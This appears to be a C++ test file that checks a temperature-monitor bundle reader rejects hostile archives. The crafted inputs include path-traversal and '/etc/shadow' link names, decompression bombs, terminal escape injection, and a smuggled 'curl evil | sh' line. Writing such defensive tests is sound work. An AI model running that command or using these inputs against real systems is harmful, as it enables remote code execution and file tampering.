// Every hostile or broken bundle must end in one clear BundleError that
// names the member; never a crash, never a write.
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch_test_macros.hpp>
#include <catch2/matchers/catch_matchers_string.hpp>

#include "tempmon/bundle/bundle.h"
#include "craft.h"
#include "tempmon/bundle/members_json.h"
#include "tempmon/bundle/samples_csv.h"
#include "tempmon/bundle/terminal_safe.h"
#include "synth.h"

using namespace tempmon::bundle;
using namespace tempmon::bundle::test;
using Catch::Matchers::ContainsSubstring;

namespace {

const std::string& Valid() {
  static const std::string b = Serialize(SynthContents(200));
  return b;
}

std::string ErrorOf(const std::string& bytes, const ReadLimits& limits = {}) {
  try {
    ReadBytes(bytes, limits);
  } catch (const TamperedError& e) {
    return std::string("TAMPERED ") + e.what();
  } catch (const BundleError& e) {
    return e.what();
  }
  return "no error";
}

// A valid bundle plus one extra entry placed right after the manifest.
std::string WithExtra(Entry extra) {
  auto m = Members(Valid());
  std::vector<Entry> e = {{"manifest.json", m["manifest.json"]}, extra};
  for (auto& [n, d] : m)
    if (n != "manifest.json") e.push_back({n, d});
  return Craft(e);
}

}  // namespace

TEST_CASE("the valid fixture reads") { CHECK(ErrorOf(Valid()) == "no error"); }

TEST_CASE("path traversal and absolute names are refused") {
  CHECK_THAT(ErrorOf(WithExtra({"../evil", "x"})), ContainsSubstring("'../evil' has an unsafe name"));
  CHECK_THAT(ErrorOf(WithExtra({"/etc/passwd", "x"})), ContainsSubstring("'/etc/passwd' has an unsafe name"));
  CHECK_THAT(ErrorOf(WithExtra({"sub/samples.csv", "x"})), ContainsSubstring("unsafe name"));
  CHECK_THAT(ErrorOf(WithExtra({".hidden", "x"})), ContainsSubstring("unsafe name"));
}

TEST_CASE("links, devices and folders are refused") {
  CHECK_THAT(ErrorOf(WithExtra({"link", "", 0120000, "/etc/shadow"})), ContainsSubstring("link: links are refused"));
  CHECK_THAT(ErrorOf(WithExtra({"hard", "", 0100000, "samples.csv", true})),
             ContainsSubstring("hard: links are refused"));
  CHECK_THAT(ErrorOf(WithExtra({"dev", "", 0020000})), ContainsSubstring("dev: not a regular file"));
  CHECK_THAT(ErrorOf(WithExtra({"dir", "", 0040000})), ContainsSubstring("dir/: not a regular file"));
}

TEST_CASE("duplicate members are refused") {
  CHECK_THAT(ErrorOf(WithExtra({"samples.csv", "x"})), ContainsSubstring("samples.csv: duplicate member"));
}

TEST_CASE("oversized members, too many members and decompression bombs stop at the limits") {
  ReadLimits small;
  small.max_samples_csv_bytes = 4096;
  CHECK_THAT(ErrorOf(Valid(), small), ContainsSubstring("samples.csv: member of"));
  CHECK_THAT(ErrorOf(Valid(), small), ContainsSubstring("exceeds the limit of 4096"));

  // 16 GiB of zeros in half a megabyte: the declared size is refused
  // before anything is allocated; the same zeros after the archive stop at
  // the running total.
  std::string bomb = ZstdZeros(16ull << 30, TarHeader("zeros", 16ull << 30));
  CHECK(bomb.size() < (600u << 10));
  CHECK_THAT(ErrorOf(bomb), ContainsSubstring("zeros: member of 17179869184 bytes exceeds the limit"));
  auto m = Members(Valid());
  std::string tar;
  for (const auto& [n, d] : m) tar += TarHeader(n, d.size()) + d + TarPad(d.size());
  CHECK_THAT(ErrorOf(ZstdZeros(16ull << 30, tar + TarEnd())), ContainsSubstring("decompression bomb"));
  ReadLimits limits;
  limits.max_total_bytes = 64u << 20;
  CHECK_THAT(ErrorOf(ZstdZeros(256u << 20, TarHeader("zeros", 1000)), limits),
             ContainsSubstring("more than the total limit of 67108864"));

  ReadLimits few;
  few.max_members = 3;
  CHECK_THAT(ErrorOf(Valid(), few), ContainsSubstring("more than 3 members"));
}

TEST_CASE("truncated and non-bundle files are refused") {
  const std::string& v = Valid();
  for (size_t cut : {size_t{0}, size_t{10}, v.size() / 3, v.size() / 2, v.size() - 20, v.size() - 1}) {
    INFO("cut at " << cut);
    std::string e = ErrorOf(v.substr(0, cut));
    CHECK(e != "no error");
    CHECK(e.find("TAMPERED") == std::string::npos);
  }
  CHECK_THAT(ErrorOf("hello, world"), ContainsSubstring("not a tar.zst archive"));
  std::string plain_tar = Craft({{"manifest.json", "{}"}}, /*zstd=*/false);
  CHECK_THAT(ErrorOf(plain_tar), ContainsSubstring("not zstd-compressed"));
}

TEST_CASE("a member missing or not listed in the manifest is tampering") {
  auto m = Members(Valid());
  m.erase("episodes.jsonl");
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("TAMPERED episodes.jsonl: missing from the archive"));
  auto m2 = Members(Valid());
  m2["extra.txt"] = "surprise";
  CHECK_THAT(ErrorOf(Repack(m2, false)), ContainsSubstring("TAMPERED extra.txt: not listed in manifest"));
  auto m3 = Members(Valid());
  m3.erase("manifest.json");
  CHECK_THAT(ErrorOf(Repack(m3, false)), ContainsSubstring("manifest.json: missing"));
}

TEST_CASE("wrong format or version is refused before anything else") {
  auto m = Members(Valid());
  auto man = nlohmann::json::parse(m["manifest.json"]);
  man["format_version"] = 3;
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("manifest.json: format_version 3 is not supported"));
  man["format_version"] = 0;
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("manifest.json: format_version 0 is not supported"));
  man["format"] = "sosreport";
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("not a tempmon bundle"));
}

TEST_CASE("malformed members are refused with member and line, even with a matching manifest") {
  struct Case {
    const char* member;
    std::string data;
    const char* expect;
  } cases[] = {
      {"episodes.jsonl", "{\"cause\":\"trip\"}\n{\"cause\":\n", "episodes.jsonl:2: malformed JSON"},
      {"events.jsonl", "[1,2]\n", "events.jsonl:1: each line must be one JSON object"},
      {"events.jsonl", std::string(100, '[') + std::string(100, ']') + "\n", "events.jsonl:1: JSON nested deeper"},
      {"kmsg.jsonl", "{\"seq\":1,\"level\":9,\"facility\":0,\"ts_us\":1,\"text\":\"x\"}\n", "kmsg.jsonl:1: level must be 0..7"},
      {"kmsg.jsonl", "{\"seq\":1,\"level\":3,\"facility\":0,\"ts_us\":-1,\"text\":\"x\"}\n", "kmsg.jsonl:1: field 'ts_us' must not be negative"},
      {"kmsg.jsonl", "{\"seq\":1,\"level\":3,\"facility\":0,\"ts_us\":1}\n", "kmsg.jsonl:1: required field 'text' is missing"},
      {"system.json", "[]", "system.json: must be a JSON object"},
      {"system.json", "{\"a\":\"\xff\xfe\"}", "system.json: malformed JSON"},
      {"samples.csv", "wall_time,mono_ns,seq,sensor_id,sensor_name,temp_mc,flags,flag_names\nnonsense\n",
       "samples.csv:2: expected 8 comma-separated fields"},
      {"manifest.json", "{\"format\":\"tempmon-bundle\",\"format_version\":1}", "manifest.json: required field 'tool_version' is missing"},
  };
  for (const Case& k : cases) {
    INFO(k.member);
    auto m = Members(Valid());
    m[k.member] = k.data;
    CHECK_THAT(ErrorOf(Repack(m, true)), ContainsSubstring(k.expect));
  }
}

TEST_CASE("a hostile manifest field type does not crash the reader") {
  auto m = Members(Valid());
  auto man = nlohmann::json::parse(m["manifest.json"]);
  man["sensors"][0]["id"] = 70000;
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("sensors[0]: field 'id' is out of range"));
  man = nlohmann::json::parse(Members(Valid())["manifest.json"]);
  man["members"] = "all of them";
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("'members' is missing or not an array"));
}

TEST_CASE("a hostile member name cannot put control characters into the error") {
  std::string e = ErrorOf(WithExtra({"evil\x1b]0;owned\x07/x", "x"}));
  CHECK_THAT(e, ContainsSubstring("unsafe name"));
  CHECK(e.find('\x1b') == std::string::npos);
  CHECK(e.find('\x07') == std::string::npos);
}

TEST_CASE("TerminalSafe removes everything a terminal acts on, and only that") {
  CHECK(TerminalSafe("gpu0 85.0 °C — ok ⏎") == "gpu0 85.0 °C — ok ⏎");
  CHECK(TerminalSafe("a\x1b]0;t\x07" "b") == "a?]0;t?b");
  CHECK(TerminalSafe("\r\b\x7f") == "???");
  CHECK(TerminalSafe("line1\nline2\tx") == "line1 ⏎ line2 x");
  CHECK(TerminalSafe("\xc2\x9b" "2J \xc2\x85 \xc2\xa0") == "?2J ? \xc2\xa0");             // C1 CSI, NEL; NBSP kept
  CHECK(TerminalSafe("\xe2\x80\xae" "exe\xe2\x80\xac \xe2\x81\xa6 \xe2\x80\xa8 \xd8\x9c") == "?exe? ? ? ?");  // bidi, LS, ALM
  CHECK(TerminalSafe("\x9b" "2J \xc0\xaf \xed\xa0\x80 \xf4\x90\x80\x80 \xe2\x82") == "?2J ?? ??? ???? ??");  // not UTF-8
  CHECK(TerminalSafe("ééééé", 4) == "éé…");  // cut at a code point boundary
}

TEST_CASE("wall times at the ends of int64 read; one nanosecond past is a clear error") {
  auto row = [](const std::string& wall, const std::string& mono) {
    return std::string(kSamplesHeader) + "\n" + wall + "," + mono + ",1,0,cpu0,1,0x0000,\n";
  };
  CHECK(ParseSamplesCsv(row("1677-09-21T00:12:43.145224192Z", "1"))[0].wall_ns == INT64_MIN);
  CHECK(ParseSamplesCsv(row("2262-04-11T23:47:16.854775807Z", "1"))[0].wall_ns == INT64_MAX);
  CHECK_THROWS_WITH(ParseSamplesCsv(row("1677-09-21T00:12:43.145224191Z", "1")),
                    ContainsSubstring("samples.csv:2: wall_time out of range"));
  // The second row reuses the first row's second (the cached prefix path).
  std::string two = row("2262-04-11T23:47:16.000000000Z", "1") + "2262-04-11T23:47:16.854775808Z,2,2,0,cpu0,1,0x0000,\n";
  CHECK_THROWS_WITH(ParseSamplesCsv(two), ContainsSubstring("samples.csv:3: wall_time out of range"));
  CHECK(ParseSamplesCsv(row("2026-11-18T11:06:40.001000000Z", "9223372036854775807"))[0].ts_ns == INT64_MAX);
  CHECK_THROWS_WITH(ParseSamplesCsv(row("2026-11-18T11:06:40.001000000Z", "18446744073709551615")),
                    ContainsSubstring("samples.csv:2: ts_ns out of range"));
}

TEST_CASE("mono times in the manifest and kernel log beyond 2^63-1 ns are refused") {
  auto m = Members(Valid());
  auto man = nlohmann::json::parse(m["manifest.json"]);
  man["trigger"]["ts_ns"] = UINT64_MAX;
  m["manifest.json"] = man.dump();
  CHECK_THAT(ErrorOf(Repack(m, false)), ContainsSubstring("trigger: field 'ts_ns' is out of range"));
  CHECK_THROWS_WITH(ParseKmsgJsonl("{\"seq\":1,\"level\":3,\"facility\":0,\"ts_us\":18446744073709551,\"text\":\"x\"}\n"),
                    ContainsSubstring("kmsg.jsonl:1: field 'ts_us' is out of range"));
}

TEST_CASE("an error echoing a hostile field carries no terminal control") {
  auto m = Members(Valid());
  m["samples.csv"] = std::string(kSamplesHeader) + "\n2026-11-18T11:06:40.001000000Z,\x1b]0;owned\x07\xc2\x9b" "2J,1,0,c,1,0x0000,\n";
  std::string e = ErrorOf(Repack(m, true));
  CHECK_THAT(e, ContainsSubstring("samples.csv:2: bad ts_ns '?]0;owned??2J'"));
  m = Members(Valid());
  m["system.json"] = "{\"a\": \x1b[2J\xc2\x9b}";
  e = ErrorOf(Repack(m, true));
  CHECK_THAT(e, ContainsSubstring("system.json: malformed JSON"));
  CHECK(TerminalSafe(e) == e);
}

TEST_CASE("parsing stops at the memory, line and time budgets with one line naming the member") {
  auto m = Members(Valid());
  std::string zeros = "[";
  for (int k = 0; k < 500000; ++k) zeros += "0,";
  m["system.json"] = "{\"a\":" + zeros + "0]}";
  ReadLimits small = ReadLimits{}.WithMemory(ReadLimits{}.max_memory_bytes / 8);
  CHECK(small.max_samples_csv_bytes == ReadLimits{}.max_samples_csv_bytes / 8);
  CHECK(small.max_json_values == ReadLimits{}.max_json_values / 8);
  CHECK(small.max_members == ReadLimits{}.max_members);
  CHECK_THAT(ErrorOf(Repack(m, true), small), ContainsSubstring("system.json: more than 262144 JSON values"));
  CHECK(ErrorOf(Repack(m, true)) == "no error");  // the same within the default budget
  ReadLimits tiny;
  tiny.max_memory_bytes = 16u << 10;
  CHECK_THAT(ErrorOf(Valid(), tiny), ContainsSubstring("reading this bundle needs more than the memory budget of 1 MB"));
  m = Members(Valid());
  m["events.jsonl"] = std::string(2u << 20, ' ') + "{}\n";
  CHECK_THAT(ErrorOf(Repack(m, true)), ContainsSubstring("events.jsonl:1: line longer than 1048576 bytes"));
  ReadLimits none;
  none.max_seconds = 0;
  CHECK_THAT(ErrorOf(Valid(), none), ContainsSubstring("takes longer than the time budget of 0 s"));
  ReadLimits rows;
  rows.max_samples = 10;
  CHECK_THAT(ErrorOf(Valid(), rows), ContainsSubstring("samples.csv:12: more than 10 samples"));
}

TEST_CASE("sparse members and lying pax sizes are refused before anything is allocated") {
  const std::string man = Members(Valid())["manifest.json"];
  std::string t = TarHeader("manifest.json", man.size()) + man + TarPad(man.size()) +
                  GnuSparseHeader("samples.csv", 512, 1ull << 30) + std::string(512, '0') + TarEnd();
  CHECK_THAT(ErrorOf(ZstdFrame(t)), ContainsSubstring("samples.csv: sparse files are refused"));
  std::string pax = PaxHeader("events.jsonl", {"size=1073741824"}) + TarHeader("events.jsonl", 0) + TarEnd();
  CHECK_THAT(ErrorOf(ZstdFrame(pax)), ContainsSubstring("events.jsonl: member of 1073741824 bytes exceeds the limit"));
}

TEST_CASE("data after the archive's end makes the bundle fail verification") {
  TempBundle frame(Valid() + Craft({{"hidden.sh", "curl evil | sh\n"}}));
  auto issues = Verify(frame.path());
  REQUIRE(issues.size() == 1);
  CHECK(issues[0].member == "(after the archive)");
  CHECK_THAT(issues[0].problem, ContainsSubstring("after the archive's zstd frame"));
  CHECK_THAT(ErrorOf(Valid() + Craft({{"hidden.sh", "x"}})), ContainsSubstring("TAMPERED (after the archive)"));

  auto m = Members(Valid());
  std::string tar;
  for (const auto& [n, d] : m) tar += TarHeader(n, d.size()) + d + TarPad(d.size());
  CHECK(ErrorOf(ZstdFrame(tar + TarEnd() + std::string(9216, '\0'))) == "no error");  // tar's own padding
  CHECK_THAT(ErrorOf(ZstdFrame(tar + TarEnd() + TarHeader("hidden", 1) + "x" + TarPad(1) + TarEnd())),
             ContainsSubstring("bytes of data after the end of the tar archive"));
  CHECK_THAT(ErrorOf(Valid() + ZstdSkippable("hidden")), ContainsSubstring("TAMPERED (after the archive)"));
}

TEST_CASE("a FIFO, a folder or a device as the bundle is refused at once, never read") {
  char dir[] = "/tmp/tempmon-untrusted-XXXXXX";
  REQUIRE(::mkdtemp(dir));
  std::string fifo = std::string(dir) + "/b.tar.zst";
  REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);
  CHECK_THROWS_WITH(Read(fifo), ContainsSubstring("b.tar.zst: is a FIFO (named pipe), not a bundle file"));
  CHECK_THROWS_WITH(Verify(fifo), ContainsSubstring("is a FIFO"));
  CHECK_THROWS_WITH(Read(dir), ContainsSubstring("is a folder"));
  CHECK_THROWS_WITH(Read("/dev/zero"), ContainsSubstring("/dev/zero: is a device"));
  ::unlink(fifo.c_str());
  ::rmdir(dir);
}
